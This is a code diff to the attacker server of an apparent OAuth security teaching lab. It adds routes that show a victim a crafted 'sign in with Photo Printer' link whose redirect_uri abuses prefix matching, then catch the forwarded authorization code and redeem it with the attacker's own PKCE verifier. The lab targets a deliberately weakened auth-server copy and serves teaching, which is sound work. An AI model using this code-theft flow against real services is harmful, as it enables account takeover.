@@ -11,7 +11,8 @@
 import { join } from 'node:path';
 import express, { type Express, type NextFunction, type Request, type Response } from 'express';
 import { securityHeaders } from '@oauth-demo/web';
-import { callbackWithMallorysCode, redeemStolenCode } from './attacks.js';
+import { callbackWithMallorysCode, craftedRedirectUri, redeemStolenCode } from './attacks.js';
+import { CraftedRequests } from './flows.js';
 import type { AttackerConfig } from './config.js';
 import { LootBox, RUN_ID } from './loot.js';
 
@@ -33,6 +34,7 @@ function runOf(value: unknown): string | undefined {
 
 export function createApp(config: AttackerConfig): AttackerApp {
   const loot = new LootBox();
+  const crafted = new CraftedRequests();
   const app = express();
   app.disable('x-powered-by');
   app.set('view engine', 'ejs');
@@ -104,6 +106,47 @@ export function createApp(config: AttackerConfig): AttackerApp {
       loot.add(run, { scenario: 'pkce', success: false, summary: 'Her badge was loaded, but no code came with it.', details: referer ? [`Referer: ${referer}`] : ['No Referer header.'] });
     }
     res.send(BADGE);
+  });
+
+  // Scenario 3 (loose redirect_uri matching): her page with a "sign in with Photo Printer" link she crafted. Its
+  // redirect_uri starts like the lab copy's registered one and ends at her site. `endpoint=lab` is the auth
+  // server's lab copy that compares by prefix (the learner switched exact matching off); otherwise the real one.
+  app.get('/redirect/:run', (req, res) => {
+    const run = runOf(req.params.run);
+    if (!run) {
+      res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
+      return;
+    }
+    const redirectUri = craftedRedirectUri(config, run);
+    const { code_challenge, state } = crafted.create(run, redirectUri);
+    const url = new URL(`${config.auth.publicUrl}${req.query.endpoint === 'lab' ? '/lab/loose-redirect/authorize' : '/authorize'}`);
+    url.search = new URLSearchParams({
+      response_type: 'code',
+      client_id: config.labPublicClientId,
+      redirect_uri: redirectUri,
+      scope: 'photos.read',
+      state,
+      code_challenge,
+      code_challenge_method: 'S256',
+    }).toString();
+    loot.add(run, { scenario: 'redirect', success: false, summary: 'Mallory showed you her “sign in with Photo Printer” link.', details: [`redirect_uri: ${redirectUri}`] });
+    res.setHeader('Cache-Control', 'no-store');
+    res.render('redirect', { title: 'Unlock your free filters', link: url.href, redirectUri });
+  });
+
+  // Where the printer's careless redirect forwards the answer: she redeems the code with her own verifier.
+  app.get('/catch/:run', async (req, res) => {
+    const run = runOf(req.params.run);
+    const request = run ? crafted.get(run) : undefined;
+    const code = typeof req.query.code === 'string' ? req.query.code : undefined;
+    if (!run || !request || !code) {
+      res.status(404).render('message', { title: 'Nothing here', text: 'Nothing to catch.' });
+      return;
+    }
+    const result = await redeemStolenCode(config, code, { redirect_uri: request.redirect_uri, code_verifier: request.code_verifier });
+    loot.add(run, { scenario: 'redirect', ...result, details: ['The code arrived at her site through the printer’s “continue to” redirect.', ...result.details] });
+    res.setHeader('Cache-Control', 'no-store');
+    res.render('caught', { title: 'Your filters are ready', back: `${config.printer.publicUrl}/lab/redirect` });
   });
 
   app.use((_req, res) => {
